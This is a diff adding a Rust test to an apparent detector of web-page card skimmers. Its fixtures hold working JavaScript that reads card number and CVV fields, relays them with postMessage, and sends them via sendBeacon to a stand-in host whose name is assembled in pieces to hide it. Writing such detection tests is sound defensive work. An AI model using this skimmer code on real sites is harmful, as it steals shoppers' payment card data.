@@ -102,6 +102,22 @@ fn an_event_relayed_by_a_bundle_is_joined_with_the_host_a_run_resolves() {
     );
 }
 
+/// The same relay for a posted message: one script posts the card to its own window, a
+/// bundle's listener sends `e.data` to an address kept in another module.
+#[test]
+fn a_message_relayed_by_a_bundle_is_joined_with_the_host_a_run_resolves() {
+    let engine = engine();
+    let bundle = "(function (modules) {\n  var cache = {};\n  function req(id) { if (cache[id]) return cache[id].exports; var m = cache[id] = { exports: {} }; modules[id].call(m.exports, m, m.exports, req); return m.exports; }\n  req(2);\n})({\n  1: function (module) { module.exports = { host: ['relay', 'msg-bridge-cdn', 'example'].join('.') }; },\n  2: function (module, exports, req) {\n    var cfg = req(1);\n    window.addEventListener('message', function (e) { navigator.sendBeacon('https://' + cfg.host + '/m', JSON.stringify(e.data)); });\n  }\n});";
+    let writer = "document.getElementById('cc_cid').addEventListener('change', function () {\n  window.postMessage({ n: document.getElementById('cc_number').value, c: document.getElementById('cc_cid').value }, '*');\n});";
+    let r = engine.analyse_batch(vec![job("writer.js", writer), job("bundle.js", bundle)]);
+    let joined = engine.join_pipes("p", &[("writer.js", &r[0]), ("bundle.js", &r[1])]);
+    assert!(
+        joined.iter().any(|f| f.severity == Severity::Critical
+            && f.hosts == vec!["relay.msg-bridge-cdn.example".to_string()]),
+        "{joined:?}"
+    );
+}
+
 /// A window property two scripts share: one keeps the typed fields in an object it also
 /// stores on `window` (`var draft = w.__draft = w.__draft || {…}`), the other reads
 /// `window.__draft` and sends it. A global the reader only reads for settings stays quiet.
